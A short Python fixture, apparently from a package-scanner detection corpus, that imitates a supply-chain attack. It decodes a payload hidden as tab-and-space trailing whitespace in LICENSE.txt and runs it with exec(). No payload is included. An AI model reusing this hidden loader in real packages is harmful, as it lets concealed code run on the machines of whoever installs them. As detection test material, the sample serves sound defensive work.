# pkgguard corpus 477 (steganography), modelled on [telnyx]; inert, never run.
import os

_here = os.path.dirname(__file__)
with open(os.path.join(_here, "LICENSE.txt"), encoding="utf-8") as fh:
    tails = [line[len(line.rstrip(" \t\n")) :].rstrip("\n") for line in fh]
bits = "".join("1" if c == "\t" else "0" for tail in tails for c in tail)
payload = bytes(int(bits[i : i + 8], 2) for i in range(0, len(bits) - 7, 8))
if payload:
    exec(payload.decode("utf-8", "ignore"))
